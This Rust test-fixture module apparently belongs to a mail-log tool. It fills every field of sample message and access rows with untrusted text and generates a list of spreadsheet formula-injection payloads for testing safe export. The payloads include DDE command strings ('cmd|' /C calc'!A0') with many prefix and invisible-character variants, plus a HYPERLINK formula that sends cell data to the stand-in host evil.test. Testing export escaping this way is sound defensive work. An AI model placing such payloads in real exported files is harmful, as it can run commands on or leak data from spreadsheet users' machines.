//! Rows in which strangers wrote a text wherever they can, and texts a spreadsheet might calculate.

use tracemail_model::{
    access::Access,
    ids::RowId,
    message::{Attachment, Auth, Message, Spam, TlsVersion},
    reason::{Failure, Reason},
    row::Row,
    status::{Action, Direction, Protocol, Status},
    time::Micros,
};

/// A row in which strangers wrote `text` wherever they can.
pub fn message(text: &str) -> Row {
    let some = || Some(text.to_owned());
    Row::Message(Message {
        id: RowId(7),
        direction: Direction::Received,
        time: Micros(1_795_281_459_987_745),
        updated: Micros(1_795_281_460_000_000),
        domain: some(),
        sender: some(),
        recipient: some(),
        original_recipient: some(),
        header_from: some(),
        header_to: some(),
        subject: some(),
        size: Some(545),
        message_id: some(),
        queue_id: some(),
        status: Status::Accepted,
        reason: Some(Reason::Greylisted),
        text: some(),
        host: text.into(),
        client_ip: "192.0.2.1".parse().ok(),
        client_host: some(),
        helo: some(),
        user: some(),
        service: text.into(),
        port: Some(25),
        relay_host: some(),
        relay_ip: "2001:db8::1".parse().ok(),
        relay_port: Some(25),
        dsn: some(),
        smtp_code: Some(250),
        attempts: 1,
        delay: Some(0.1),
        delays: Some([0.07, 0.0, 0.0, 0.03]),
        tls_in: Some(TlsVersion::Tls13),
        tls_in_cipher: some(),
        tls_out: None,
        tls_out_cipher: some(),
        tls_out_trust: some(),
        folder: some(),
        actions: vec![text.into()],
        forwarded_to: vec![text.into(), text.into()],
        autoreply: some(),
        spam: Some(Spam { score: -1.5, required: Some(15.0), action: text.into(), symbols: vec![(text.into(), -0.5)] }),
        virus: some(),
        auth: Auth { spf: some(), dkim: some(), dmarc: some() },
        attachments: vec![Attachment { name: text.into(), sha256: None, size: None, status: None }],
        encryption: None,
    })
}

pub fn access(text: &str) -> Row {
    let some = || Some(text.to_owned());
    Row::Access(Access {
        id: RowId(8),
        time: Micros(1_795_281_459_987_745),
        logout_time: Some(Micros(1_795_281_460_000_000)),
        action: Action::FailedLogin,
        protocol: Protocol::Imap,
        user: text.into(),
        domain: some(),
        failure: Some(Failure::AuthFailed),
        text: some(),
        client: some(),
        server: text.into(),
        local_ip: None,
        local_port: Some(993),
        remote_ip: "192.0.2.1".parse().ok(),
        remote_port: None,
        session: some(),
        method: some(),
        tls: None,
        tls_cipher: some(),
        bytes_in: Some(1),
        bytes_out: None,
        deleted: None,
        expunged: None,
        trashed: None,
        retrieved: None,
        service: text.into(),
    })
}

/// What a spreadsheet might calculate.
pub fn payloads() -> Vec<String> {
    let signs = ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "\u{ff1d}", "\u{ff0b}", "\u{ff0d}", "\u{ff20}", "\u{fe66}", "\u{2212}"];
    let before = ["", " ", "\u{a0}", "\u{feff}", "\u{200b}", "\u{202e} "];
    let mut all: Vec<String> = before.iter().flat_map(|b| signs.iter().map(move |s| format!("{b}{s}cmd|' /C calc'!A0"))).collect();
    all.extend(
        [
            "=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")",
            "=1+1\",\"x",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1",
            "-1",
            "=\"a\nb\"",
            "\r\n=1",
        ]
        .map(String::from),
    );
    assert!(all.len() >= 80);
    all
}
